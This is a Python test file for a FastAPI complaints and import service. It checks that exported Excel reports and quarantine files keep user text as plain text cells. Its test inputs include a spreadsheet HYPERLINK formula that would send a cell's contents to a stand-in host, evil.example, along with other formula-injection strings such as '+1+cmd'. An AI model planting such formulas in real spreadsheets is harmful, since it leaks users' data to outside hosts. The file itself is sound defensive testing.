"""Issue #21, findings 8 and 18 (and retest item 4), through the API: the evaluation report and a
quarantine file carry user text with formula starts, control characters and XML-illegal
noncharacters (U+FFFE, U+FFFF) as plain text cells, in files that open again."""

import io
import random
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from ingestion.uscc import USCC_ALPHABET, make_uscc
from models.clock import center_today
from tests.api.conftest import login

NONCHARACTER = "对接\ufffe反馈不及时（从 Word 粘贴）"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'


def _cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))
    return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


def test_the_report_holds_a_complaint_with_a_noncharacter_and_no_formula(
    client: TestClient,
) -> None:
    institution, staff = login(client, "inst_a"), login(client, "mm")
    ids = []
    for content in (NONCHARACTER, FORMULA):
        response = client.post("/complaints", json={"kind": "complaint", "content": content},
                               headers=institution)  # fmt: skip
        assert response.status_code == 201, response.text
        ids.append(response.json()["id"])
    moved = client.post(f"/complaints/{ids[1]}/moves", headers=staff,
                        json={"to": "handling", "root_cause": "@SUM(1+1)\uffff"})  # fmt: skip
    assert moved.status_code == 200, moved.text
    measure = client.post(f"/complaints/{ids[1]}/measures", headers=staff,
                          json={"description": "+1+cmd", "owner": "-张三", "due_on": "2025-06-30"})  # fmt: skip
    assert measure.status_code == 201, measure.text
    year = center_today().year  # the complaints are open at the end of this year's period
    response = client.get(f"/evaluation/report?from={year}-01-01&to={year}-12-31&format=xlsx",
                          headers=login(client, "eva"))  # fmt: skip
    assert response.status_code == 200, response.text  # was a 500: IllegalCharacterError
    cells = _cells(response.content)  # U+FFFE made a file openpyxl could not open
    texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    assert texts["对接反馈不及时（从 Word 粘贴）"] == "s"
    for text in (FORMULA, "@SUM(1+1)", "+1+cmd", "-张三"):
        assert texts[text] == "s"
    assert not {c.data_type for c in cells} & {"f", "e"}


def test_a_quarantine_file_keeps_formula_text_as_text(client: TestClient) -> None:
    code = make_uscc(random.Random(21), "440305")
    bad = code[:-1] + USCC_ALPHABET[(USCC_ALPHABET.index(code[-1]) + 1) % 31]
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    text = f"企业名称,统一社会信用代码,经营范围\n{quoted},{bad},芯片\x0b设计\uffff\n"
    staff = login(client, "mm")
    upload = client.post("/imports", headers=staff, data={"kind": "enterprises"},
                         files={"file": ("hostile.csv", text.encode(), "text/csv")})  # fmt: skip
    assert upload.status_code == 201, upload.text
    assert upload.json()["quarantined"] == 1
    response = client.get(f"/imports/{upload.json()['batch_id']}/quarantine.xlsx", headers=staff)
    assert response.status_code == 200, response.text
    cells = _cells(response.content)
    values = {c.value: c.data_type for c in cells}
    assert values[FORMULA] == "s" and values["芯片设计"] == "s"
    assert not {c.data_type for c in cells} & {"f", "e"}
